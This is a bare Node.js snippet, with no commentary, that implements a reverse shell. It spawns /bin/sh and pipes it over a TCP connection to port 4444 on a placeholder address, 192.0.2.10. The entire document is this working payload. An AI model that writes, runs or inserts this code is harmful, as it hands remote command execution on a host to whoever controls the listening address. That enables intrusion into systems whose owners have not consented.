const net = require('net');
const sh = require('child_process').spawn('/bin/sh', []);
const c = net.connect(4444, '192.0.2.10');
c.pipe(sh.stdin);
sh.stdout.pipe(c);
